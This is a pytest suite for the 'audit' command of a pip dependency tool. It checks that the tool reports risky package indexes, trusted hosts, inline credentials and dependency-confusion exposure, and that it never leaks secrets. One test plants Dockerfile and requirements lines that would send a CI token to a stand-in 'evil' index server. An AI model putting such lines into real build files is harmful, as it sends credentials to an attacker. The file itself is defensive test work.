"""audit: what it reports, in which form, whom it asks, and when it fails. What it finds in which file is in tests/scan."""

from __future__ import annotations

import json
import subprocess
import sys
from pathlib import Path
from typing import Any

import jsonschema
import pytest

from tests.conftest import POLICY
from tests.interpreters import SRC
from tests.running import Machine, Result, clean_environment
from tests.servers.index import Answer, IndexServer, redirect
from tests.servers.projects import wheel

ROOT = Path(__file__).parents[2]
SCHEMA = json.loads((ROOT / "tests/assets/sarif-2.1.0.schema.json").read_text())


@pytest.fixture
def legacy(machine: Machine) -> Machine:
    machine.write("requirements.txt", "--extra-index-url https://robot:s3cret-word@pypi.acme.example/simple\nacme-core==1.4\nidna\n")
    machine.write("deploy/Dockerfile", "FROM python\nRUN pip install \\\n    --trusted-host pypi.acme.example foo\n")
    return machine


def _findings(done: Result) -> list[dict[str, Any]]:
    assert "Traceback" not in done.text, done.text
    found: list[dict[str, Any]] = json.loads(done.out)["findings"]
    return found


def _codes(done: Result) -> set[tuple[str, str]]:
    return {(finding["code"], f"{finding['file']}:{finding['line']}") for finding in _findings(done)}


EXPECTED = {("extra-index", "requirements.txt:1"), ("credential-in-file", "requirements.txt:1"), ("trusted-host", "deploy/Dockerfile:2")}


@pytest.mark.parametrize("form", ["table", "json", "sarif", "markdown"])
def test_every_format_says_the_same_without_the_secret(form: str, legacy: Machine) -> None:
    done = legacy.pinned("audit", "--format", form, COLUMNS="160")
    assert done.code == 1 and "s3cret" not in done.text, done.text
    for code, place in EXPECTED:
        assert code in done.out and place.partition(":")[0] in done.out
    if form == "json":
        assert _codes(done) == EXPECTED and all(finding["risk"] and finding["fix"] and finding["severity"] == "high" for finding in _findings(done))
    if form == "sarif":
        log = json.loads(done.out)
        jsonschema.validate(log, SCHEMA)
        assert {(result["ruleId"], f"{place['artifactLocation']['uri']}:{place['region']['startLine']}") for result in log["runs"][0]["results"]
                for place in [result["locations"][0]["physicalLocation"]]} == EXPECTED


def test_the_schema_is_strict() -> None:
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate({"version": "2.1.0", "runs": [{"tool": {"driver": {"name": "x"}}, "results": [{"message": {"text": "x"}, "level": "high"}]}]}, SCHEMA)


def test_an_empty_report_is_valid_too(machine: Machine) -> None:
    done = machine.pinned("audit", "--format", "sarif")
    assert done.code == 0, done.text
    jsonschema.validate(json.loads(done.out), SCHEMA)
    assert "No findings in 0 files." in machine.pinned("audit").out


@pytest.mark.parametrize(("level", "code"), [("high", 0), ("medium", 1), ("low", 1), ("never", 0)])
def test_from_which_severity_on_it_fails(level: str, code: int, machine: Machine) -> None:
    machine.write("requirements.txt", "lib @ https://files.example/lib-1.0.tar.gz\n")
    assert machine.pinned("audit", "--fail-on", level).code == code


def test_paths_and_files(legacy: Machine) -> None:
    assert _codes(legacy.pinned("audit", "deploy", "--format", "json")) == {("trusted-host", "deploy/Dockerfile:2")}
    legacy.write("notes", "pip install --extra-index-url https://pypi.acme.example/simple x\n")
    assert _codes(legacy.pinned("audit", "notes", "--format", "json")) == {("extra-index", "notes:1")}
    assert legacy.pinned("audit", "nowhere").code == 2 and legacy.pinned("audit", "--frobnicate").code == 2


@pytest.mark.parametrize("pattern", ["deploy", "deploy/", "deploy/*", "*/Dockerfile", "dep*"])
def test_files_can_be_left_out(pattern: str, legacy: Machine) -> None:
    assert ("trusted-host", "deploy/Dockerfile:2") not in _codes(legacy.pinned("audit", "--exclude", pattern, "--format", "json"))


def test_comments_and_a_baseline_silence(legacy: Machine) -> None:
    report = legacy.pinned("audit", "--format", "json", "--fail-on", "never")
    assert report.code == 0
    legacy.write("known.json", report.out)
    legacy.write("requirements.txt", "\n\n" + (legacy.project / "requirements.txt").read_text())  # lines move
    assert legacy.pinned("audit", "--baseline", "known.json").code == 0
    legacy.write("more-requirements.txt", "--extra-index-url https://other.example/simple\n# pip-pinned: ignore[extra-index] we know\n--extra-index-url https://third.example/simple\n")
    done = legacy.pinned("audit", "--baseline", "known.json", "--format", "json")
    assert done.code == 1 and _codes(done) == {("extra-index", "more-requirements.txt:1")}
    for text in ("", "[]", '{"findings": 3}'):
        legacy.write("broken.json", text)
        assert legacy.pinned("audit", "--baseline", "broken.json").code == 2


def test_a_policy_is_judged_with_the_files(machine: Machine) -> None:
    machine.write("pyproject.toml", '[project]\nname = "app"\nversion = "1"\ndependencies = ["acme-core"]\n[build-system]\nrequires = ["helper"]\n[tool.pip-pinned]\nsync-any-index = true\n'
                  '[[tool.pip-pinned.index]]\nname = "acme"\nurl = "https://pypi.acme.example/simple"\n[tool.pip-pinned.sources]\nacme-core = { index = "acme" }\nacme-cire = { index = "acme" }\n')
    machine.write("pylock.toml", 'lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "acme-core"\nversion = "1.0"\n[[packages.wheels]]\nname = "acme_core-1.0-py3-none-any.whl"\n'
                  'url = "https://pypi.acme.example/f.whl"\nhashes = {}\n')
    found = _codes(machine.pinned("audit", "--format", "json"))
    assert {code for code, _ in found} == {"pin-without-explicit", "unused-pin", "build-requirement-unpinned", "sync-any-index", "unhashed-lock", "lock-without-index"}, found


def test_a_policy_that_cannot_be_read_is_a_finding(machine: Machine) -> None:
    machine.write("pip-pinned.toml", "explict = true\n")
    done = machine.pinned("audit", "--format", "json")
    assert done.code == 1 and {code for code, _ in _codes(done)} == {"unreadable"} and "explict" in done.out


def test_a_glob_that_catches_what_is_from_elsewhere(acme: Machine, public: IndexServer) -> None:
    acme.write("pylock.toml", f'lock-version = "1.0"\ncreated-by = "x"\n[[packages]]\nname = "acme-public"\nversion = "1.0"\nindex = "{public.url}"\n[[packages.wheels]]\n'
               'name = "acme_public-1.0-py3-none-any.whl"\nurl = "https://public.example/f.whl"\nhashes = { sha256 = "0" }\n')
    assert _codes(acme.pinned("audit", "--format", "json", "--fail-on", "never")) == {("glob-matches-public", "pip-pinned.toml:12")}


def test_variables_of_the_policy_need_not_be_set(machine: Machine) -> None:
    text = '[[index]]\nname = "acme"\nurl = "https://robot:${ACME_TOKEN}@pypi.acme.example/simple"\nexplicit = true\n[sources]\nacme-core = { index = "acme" }\n'
    machine.write("pip-pinned.toml", text)
    assert _findings(machine.pinned("audit", "--format", "json")) == []
    machine.write("pip-pinned.toml", text.replace('"acme" }', '"acmee" }'))
    assert _codes(machine.pinned("audit", "--format", "json")) == {("unreadable", "pip-pinned.toml:6")}


# -- asking ----------------------------------------------------------------------------------------------------------


def _online(machine: Machine, *words: str, **environment: str) -> Result:
    return machine.pinned("audit", "--online", "--format", "json", *words, HTTPS_PROXY="http://127.0.0.1:9", **environment)


def test_nobody_is_asked_unless_told_to(acme: Machine, private: IndexServer, public: IndexServer) -> None:
    acme.write("requirements.txt", "acme-core\npubdep\n")
    assert acme.pinned("audit").code == 0 and private.requests == public.requests == []
    assert acme.pinned("audit", "--probe-public").code == 2


def test_names_on_several_indexes(machine: Machine, private: IndexServer, public: IndexServer) -> None:
    machine.write("requirements.txt", f"--index-url {public.url}\n--extra-index-url {private.url}\nacme-core\npubdep\n")
    done = _online(machine)
    assert ("name-on-several-indexes", "requirements.txt:3") in _codes(done) and ("name-on-several-indexes", "requirements.txt:4") not in _codes(done), done.text
    machine.write("pip-pinned.toml", POLICY.format(private=private.url, public=public.url))
    done = _online(machine)
    assert "name-on-several-indexes" not in {code for code, _ in _codes(done)}, done.text


def test_an_index_that_sends_names_on(acme: Machine, private: IndexServer, public: IndexServer) -> None:
    acme.write("requirements.txt", "acme-core\n")
    private.answers["/simple/(?!acme-core).*"] = redirect("https://elsewhere.example/simple/x/")
    done = _online(acme)
    assert [finding["code"] for finding in _findings(done)] == ["redirecting-index"] and "elsewhere.example" in done.out


@pytest.mark.parametrize("answer", [Answer(503), Answer(401), Answer(200, b"what?")])
def test_an_index_that_does_not_answer_fails_the_audit(answer: Answer, acme: Machine, private: IndexServer) -> None:
    acme.write("requirements.txt", "acme-core\n")
    private.answers["/simple/.*"] = answer
    done = _online(acme, "--fail-on", "never", "--retries", "0")
    assert done.code == 1 and json.loads(done.out)["unanswered"], done.text


def test_credentials_of_files_are_used_for_their_index_alone(machine: Machine, serve: Any, public: IndexServer) -> None:
    private = serve("locked", credentials=("robot", "s3cret-word")).add(wheel("acme-core", "1.0"))
    machine.write("requirements.txt", f"--index-url {public.url}\n--extra-index-url {private.url.replace('://', '://robot:s3cret-word@')}\nacme-core\n")
    done = _online(machine)
    assert ("name-on-several-indexes", "requirements.txt:3") in _codes(done) and "s3cret" not in done.text
    assert not any("authorization" in request.headers for request in public.requests)


PUBLIC_PROBE = """\
import sys
from pip._internal.models.index import PyPI
from pip_pinned.commands import audit
import pip_pinned.pip_runner.settings as effective
PyPI.simple_url = sys.argv.pop(1)
sys.exit(audit.main(sys.argv[1:], None))
"""


def test_the_public_index_is_asked_on_request_only(machine: Machine, private: IndexServer, public: IndexServer) -> None:
    """pip's own notion of PyPI is pointed at a server on this machine; everything else is as it is."""
    private.add(wheel("acme-secret", "1.0"))
    machine.write("requirements.txt", f"--extra-index-url {private.url.replace('127.0.0.1', 'localhost')}\nacme-secret\nacme-core\npubdep\n")
    script = machine.write("../probe.py", PUBLIC_PROBE)
    words = (str(script), public.url, "--online", "--format", "json")
    done = machine.run_script(*words)
    assert public.requests == [] and "private-name-free-on-public" not in done.out, done.text
    done = machine.run_script(*words, "--probe-public")
    assert {name for name in public.pages_asked() if "survey" not in name} == {"acme-secret", "acme-core", "pubdep"}
    assert ("private-name-free-on-public", "requirements.txt:2") in _codes(done) and ("name-on-several-indexes", "requirements.txt:3") in _codes(done), done.text


def test_the_hooks_run(tmp_path: Path) -> None:
    """The commands of .pre-commit-hooks.yaml, as pre-commit would run them."""
    hooks = (ROOT / ".pre-commit-hooks.yaml").read_text()
    entries = [line.partition(":")[2].strip() for line in hooks.splitlines() if line.strip().startswith("entry:")]
    assert entries == ["pip-pinned audit", "pip-pinned lock --check"]
    (tmp_path / "requirements.txt").write_text("--extra-index-url https://pypi.acme.example/simple\n")
    environment = {**clean_environment(tmp_path / "home"), "PYTHONPATH": str(SRC)}
    done = subprocess.run([sys.executable, "-m", "pip_pinned", *entries[0].split()[1:]], cwd=tmp_path, env=environment, capture_output=True, text=True, check=False)
    assert done.returncode == 1 and "extra-index" in done.stdout


def test_two_indexes_on_one_line_keep_their_credentials_apart(machine: Machine, serve: Any) -> None:
    mine = serve("mine", credentials=("robot", "s3cret-word")).add(wheel("acme-core", "1.0"))
    other = serve("other").add(wheel("acme-core", "2.0"))
    machine.write("requirements.txt", f"--extra-index-url {mine.url.replace('://', '://robot:s3cret-word@')} --find-links {other.root}/links.html\nacme-core\n")
    done = _online(machine)
    assert ("name-on-several-indexes", "requirements.txt:2") in _codes(done) and "acme-core" in mine.pages_asked(), done.text
    assert other.requests and not any("authorization" in request.headers for request in other.requests)


def test_variables_are_not_sent_to_where_any_file_says(machine: Machine, serve: Any) -> None:
    evil = serve("evil")
    place = evil.root.replace("://", "://${CI_TOKEN}@")
    machine.write("vendor/x/Dockerfile", f"RUN pip install --extra-index-url {evil.root}/$CI_TOKEN/simple a\nRUN pip install --extra-index-url {place}/user/simple b\n")
    machine.write("vendor/x/requirements.txt", f"--extra-index-url {place}/file/simple\nacme-core\n")
    for words in (("audit", "--online"), ("migrate", "--dry-run")):
        done = machine.pinned(*words, CI_TOKEN="s3cret-word", HTTPS_PROXY="http://127.0.0.1:9")
        assert "s3cret" not in done.text, done.text
    assert evil.requests and not any("authorization" in request.headers or "s3cret" in request.path for request in evil.requests)


def test_no_redirect_leads_to_the_public_index(machine: Machine, private: IndexServer, public: IndexServer) -> None:
    private.answers["/simple/.*"] = lambda request: redirect(public.root + request.path)
    machine.write("pip-pinned.toml", POLICY.format(private=private.url, public="https://public.example/simple").replace("explicit = true", "explicit = true\nfollow-redirects = true"))
    machine.write("requirements.txt", "acme-secret\n")
    done = _online(machine, "--retries", "0")
    assert public.requests == [] and "redirecting-index" in {code for code, _ in _codes(done)}, done.text
